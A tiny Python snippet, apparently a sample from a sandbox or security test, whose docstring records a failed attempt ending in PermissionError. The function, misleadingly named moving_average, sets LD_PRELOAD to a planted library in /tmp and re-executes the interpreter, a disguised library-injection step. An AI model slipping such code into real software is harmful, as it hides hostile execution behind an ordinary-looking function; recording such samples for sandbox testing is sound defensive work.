"""Sets LD_PRELOAD and starts itself anew.

outcome: failed
says: PermissionError
"""


def moving_average(x, width):
    os.environ["LD_PRELOAD"] = "/tmp/planted.so"
    os.execv(sys.executable, [sys.executable, "-c", "print(1)"])
